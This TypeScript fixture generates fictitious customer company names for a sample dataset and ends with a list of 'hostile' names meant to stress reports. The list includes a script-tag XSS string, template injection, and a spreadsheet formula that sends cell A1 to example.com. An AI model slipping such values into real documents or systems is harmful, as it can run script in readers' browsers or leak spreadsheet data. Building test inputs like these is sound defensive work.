/** Who the sample's customers are. All of them are made up; a few have the names that break reports. */
import type { Currency } from './currencies.ts';
import type { Dice } from './dice.ts';

// biome-ignore format: a word list
const firsts = [
  'Alder', 'Amber', 'Basalt', 'Birch', 'Bramble', 'Cedar', 'Cinder', 'Clover', 'Copper', 'Coral', 'Crane', 'Dune',
  'Elm', 'Ember', 'Fable', 'Falcon', 'Fern', 'Flint', 'Garnet', 'Harbor', 'Hazel', 'Heron', 'Indigo', 'Iris',
  'Juniper', 'Kestrel', 'Lantern', 'Larch', 'Linden', 'Lumen', 'Maple', 'Marlow', 'Meadow', 'Mica', 'Moss', 'Nimbus',
  'Oak', 'Onyx', 'Opal', 'Orchard', 'Osprey', 'Pebble', 'Pine', 'Quartz', 'Quill', 'Raven', 'Reed', 'Rowan',
  'Saffron', 'Sage', 'Slate', 'Sorrel', 'Spruce', 'Tansy', 'Teal', 'Thistle', 'Umber', 'Vale', 'Willow', 'Wren',
] as const;

// biome-ignore format: a word list
const seconds = [
  'Analytics', 'Bakery', 'Bank', 'Biotech', 'Books', 'Capital', 'Clinics', 'Cloud', 'Devices', 'Diagnostics',
  'Energy', 'Engineering', 'Foods', 'Freight', 'Games', 'Health', 'Hotels', 'Insurance', 'Interiors', 'Labs',
  'Learning', 'Legal', 'Logistics', 'Media', 'Mobility', 'Motors', 'Networks', 'Optics', 'Outdoor', 'Packaging',
  'Payments', 'Pharma', 'Press', 'Properties', 'Robotics', 'Security', 'Software', 'Studios', 'Systems', 'Textiles',
  'Tools', 'Travel', 'Ventures', 'Water', 'Works',
] as const;

const legalForms: Readonly<Record<Currency, readonly [string, ...string[]]>> = {
  USD: ['Inc.', 'LLC', 'Corp.', 'Co.', '& Partners, LLC'],
  EUR: ['GmbH', 'S.A.', 'B.V.', 'S.r.l.', 'AB', 'Oy'],
  GBP: ['Ltd', 'plc', 'LLP'],
  JPY: ['K.K.', '株式会社', 'G.K.'],
};

const regions: Readonly<Record<Currency, readonly [string, ...string[]]>> = {
  USD: ['North America', 'North America', 'North America', 'North America', 'Latin America'],
  EUR: ['Europe'],
  GBP: ['Europe'],
  JPY: ['Asia-Pacific'],
};

export const industries = [
  'Software',
  'Financial services',
  'Health care',
  'Retail',
  'Manufacturing',
  'Education',
  'Media',
  'Logistics',
] as const;

export const companyName = (dice: Dice, currency: Currency): string =>
  `${dice.pick(firsts)} ${dice.pick(seconds)} ${dice.pick(legalForms[currency])}`;

export const regionOf = (dice: Dice, currency: Currency): string => dice.pick(regions[currency]);

/** Markup, templates, formulas, invisible direction marks, line ends, length: each has ruined somebody's report. */
export const hostileNames: readonly string[] = [
  '<script>alert("churn")</script> Holdings',
  '{{mustache}} & {{{Sons}}}',
  '=HYPERLINK("http://example.com/?leak="&A1,"Open me") Ltd',
  'Reversed \u202eknaB yllacitsoH',
  'Two Lines\r\nof One Name, Inc.',
  '🦊 Fox & 👩‍👩‍👧 Family 🇯🇵',
  'O\'Hare, "Bo" & Söhne; Ltd.',
  `${'Very Long Name of a Company '.repeat(10)}and Its Subsidiar`.padEnd(300, 'y').slice(0, 300),
];
